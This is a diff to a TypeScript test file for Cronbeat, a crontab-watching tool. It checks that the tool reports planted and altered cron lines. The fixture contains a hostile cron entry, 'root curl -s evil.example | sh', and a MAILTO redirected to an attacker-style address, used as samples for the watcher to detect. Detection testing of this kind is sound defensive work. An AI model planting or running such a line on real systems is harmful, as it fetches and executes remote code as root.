@@ -1,4 +1,5 @@
 import { readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -195,7 +196,7 @@ describe.concurrent('lines an alert cannot hold as they are, and lines Cronbeat 
   });
 
   it('a setting and a line Cronbeat reads as no job are watched as jobs are (some cron may run it), and one there before they were watched is no addition', async () => {
-    const { folder, file } = crontabFolder('MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n');
+    const { folder, file } = crontabFolder('MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n');
     const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
     const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
     const first = await watchOnce();
@@ -204,17 +205,19 @@ describe.concurrent('lines an alert cannot hold as they are, and lines Cronbeat 
     const stateFile = join(folder, 'crontab-watch-web-7.json');
     const state = JSON.parse(readFileSync(stateFile, 'utf8'));
     const before = (job: { refused?: true; setting?: string; text: string }) => !job.refused && job.setting === undefined && !job.text.startsWith('-');
-    writeFileSync(stateFile, JSON.stringify({ ...state, everyLine: undefined, jobs: state.jobs.filter(before) }));
+    // And @DAILY, a job to it then (no macro to cron), by the hash it gave jobs.
+    const daily = { source: file, user: state.jobs[0].user, text: '@DAILY /shouty.sh', hash: createHash('sha256').update('@DAILY\0/shouty.sh').digest('hex') };
+    writeFileSync(stateFile, JSON.stringify({ ...state, everyLine: undefined, jobs: [...state.jobs.filter(before), daily] }));
     const upgraded = await watchOnce();
     expect(upgraded.status).toBe(0);
     expect(upgraded.stdout).not.toMatch(/found:/);
     // Debian's cron runs "5/20" at :05 every hour: planted so, a line must not pass unseen.
-    writeFileSync(file, 'MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    writeFileSync(file, 'MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
     const planted = await watchOnce();
     expect(planted.status, planted.stderr).toBe(0);
     expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
     // Where every job's output goes: a setting changed is told as one.
-    writeFileSync(file, 'MAILTO=drop@evil.example\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    writeFileSync(file, 'MAILTO=drop@evil.example\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
     const mailTo = await watchOnce();
     expect(mailTo.stdout).toMatch(/delivered: altered for \S+: MAILTO=drop@evil\.example \(was: MAILTO=ops@example\.com\)\n/);
   });
